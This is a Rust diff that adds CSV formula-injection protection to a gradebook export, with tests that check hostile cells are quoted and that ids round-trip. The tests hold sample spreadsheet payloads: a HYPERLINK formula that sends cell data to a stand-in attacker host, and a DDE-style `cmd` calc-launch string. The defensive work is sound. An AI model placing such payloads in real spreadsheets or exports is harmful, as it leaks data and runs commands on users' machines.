@@ -289,7 +289,9 @@ impl ManualGrades {
                     format!("expected id,category,points[,comment], got {} fields", row.len()),
                 ));
             }
-            let (id, category, points) = (&row[0], &row[1], &row[2]);
+            // An id copied from `gradebook.csv` may carry the quote that kept a spreadsheet from
+            // running it: the student's id is what is under it.
+            let (id, category, points) = (from_spreadsheet_text(&row[0]), &row[1], &row[2]);
             let Some(rubric) = assignment.category(category) else {
                 return Err(error(line, format!("no category `{category}` in {}", assignment.id)));
             };
@@ -441,16 +443,19 @@ impl Gradebook {
     /// `gradebook.csv`: `id,name,total,max,<category>...,pending,status`, one row per student; a
     /// pending hand-graded category is an empty cell and is named in `pending`. A bonus category's
     /// column is headed `<id> (bonus)`: its points are in `total` but not in `max`.
+    ///
+    /// Every text cell goes through `spreadsheet_text` (a student's id or name could be a formula);
+    /// the numbers are ours and stay numbers.
     pub fn to_csv(&self) -> String {
         let mut writer = csv::Writer::from_writer(Vec::new());
         let mut header = vec!["id".to_owned(), "name".to_owned(), "total".to_owned(), "max".to_owned()];
-        header.extend(self.columns.iter().map(Column::header));
+        header.extend(self.columns.iter().map(|c| spreadsheet_text(&c.header())));
         header.extend(["pending".to_owned(), "status".to_owned()]);
         writer.write_record(&header).expect("writing to memory");
         for s in &self.students {
             let mut row = vec![
-                s.id.clone(),
-                s.name.clone().unwrap_or_default(),
+                spreadsheet_text(&s.id),
+                spreadsheet_text(s.name.as_deref().unwrap_or_default()),
                 format!("{:.2}", s.total()),
                 format!("{:.2}", s.max()),
             ];
@@ -461,11 +466,35 @@ impl Gradebook {
                     .and_then(|c| c.score)
                     .map_or_else(String::new, |score| format!("{score:.2}"))
             }));
-            row.push(s.pending().join(" "));
+            row.push(spreadsheet_text(&s.pending().join(" ")));
             row.push(s.status.word().to_owned());
             writer.write_record(&row).expect("writing to memory");
         }
         String::from_utf8(writer.into_inner().expect("writing to memory")).expect("CSV of UTF-8 text")
+    }
+}
+
+/// The first characters that make a spreadsheet read a cell as a formula (OWASP's list for CSV
+/// injection, with NUL from ASVS): `=HYPERLINK(...)` as a student's name would become a link, or
+/// worse, in the instructor's spreadsheet.
+const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];
+
+/// A text cell of `gradebook.csv` as a spreadsheet must read it: one that starts like a formula gets a
+/// `'` in front, which spreadsheets take to mean "text" and do not show. So does one that already
+/// starts with `'`, so that [`from_spreadsheet_text`] can always take the quote off again.
+fn spreadsheet_text(text: &str) -> String {
+    if text.starts_with(FORMULA_STARTS) || text.starts_with('\'') {
+        format!("'{text}")
+    } else {
+        text.to_owned()
+    }
+}
+
+/// The text under a cell that [`spreadsheet_text`] quoted (`'=1+1` is `=1+1`); any other text as it is.
+fn from_spreadsheet_text(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_STARTS) || rest.starts_with('\'') => rest,
+        _ => cell,
     }
 }
 
@@ -572,6 +601,86 @@ mod tests {
             book.to_csv(),
             "id,name,total,max,play,style,cube (bonus),pending,status\na1,Ada,13.00,10.00,8.00,2.00,3.00,,graded\n"
         );
+    }
+
+    /// `gradebook.csv`'s rows as a CSV reader reads them, the header left out.
+    fn rows(csv: &str) -> Vec<Vec<String>> {
+        let mut reader = csv::Reader::from_reader(csv.as_bytes());
+        reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect()
+    }
+
+    #[test]
+    fn a_formula_in_a_student_name_is_neutralised_in_the_gradebook() {
+        let hyperlink = r#"=HYPERLINK("http://e.vil/?"&A1,"click")"#;
+        let hostile = [
+            ("@SUM(1+1)", hyperlink),
+            ("+cmd|' /C calc'!A0", "-2+3"),
+            ("\tx", "\r=1"),
+            ("'quoted", "\0nul"),
+            ("plain", "Ada Lovelace"),
+        ];
+        let book = Gradebook {
+            assignment: "bg".to_owned(),
+            title: "Backgammon".to_owned(),
+            columns: columns(),
+            students: hostile
+                .iter()
+                .map(|(id, name)| student(id, name, StudentStatus::Graded, 8.0, None))
+                .collect(),
+            cases: Vec::new(),
+        };
+        let cells: Vec<(String, String)> =
+            rows(&book.to_csv()).into_iter().map(|row| (row[0].clone(), row[1].clone())).collect();
+        assert_eq!(
+            cells,
+            [
+                ("'@SUM(1+1)".to_owned(), format!("'{hyperlink}")),
+                ("'+cmd|' /C calc'!A0".to_owned(), "'-2+3".to_owned()),
+                ("'\tx".to_owned(), "'\r=1".to_owned()),
+                ("''quoted".to_owned(), "'\0nul".to_owned()),
+                ("plain".to_owned(), "Ada Lovelace".to_owned()),
+            ]
+        );
+    }
+
+    #[test]
+    fn the_gradebook_numbers_stay_numbers_even_when_negative() {
+        let book = Gradebook {
+            assignment: "bg".to_owned(),
+            title: "Backgammon".to_owned(),
+            columns: columns(),
+            students: vec![student("a1", "-Ada", StudentStatus::Graded, -1.5, None)],
+            cases: Vec::new(),
+        };
+        assert_eq!(rows(&book.to_csv()), [["a1", "'-Ada", "-1.50", "10.00", "-1.50", "", "style", "graded"]]);
+    }
+
+    #[test]
+    fn the_quote_comes_off_exactly_what_it_was_put_on() {
+        for text in ["=1+1", "-", "@", "\t", "\r", "'", "''x", "'x", "x", "", "a=b"] {
+            assert_eq!(from_spreadsheet_text(&spreadsheet_text(text)), text, "{text:?}");
+        }
+        assert_eq!(from_spreadsheet_text("'x"), "'x", "a quote the gradebook never writes stays");
+    }
+
+    #[test]
+    fn an_id_quoted_in_the_gradebook_reads_back_as_itself_in_hand_grades() {
+        let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../cases");
+        let assignment = crate::load::load_assignment(&root, "trouble").unwrap();
+        let ids = ["=1+1", "-x", "@me", "'quoted", "plain"];
+        // The ids as `gradebook.csv` writes them, copied into a hand-grades file.
+        let mut writer = csv::Writer::from_writer(Vec::new());
+        writer.write_record(["id", "category", "points"]).unwrap();
+        for id in ids {
+            writer.write_record([spreadsheet_text(id).as_str(), "style", "3"]).unwrap();
+        }
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("grades.csv");
+        std::fs::write(&path, writer.into_inner().unwrap()).unwrap();
+        let grades = ManualGrades::read(&path, &assignment).unwrap();
+        for id in ids {
+            assert_eq!(grades.get(id, "style").map(|g| g.points), Some(3.0), "{id}");
+        }
     }
 
     #[test]
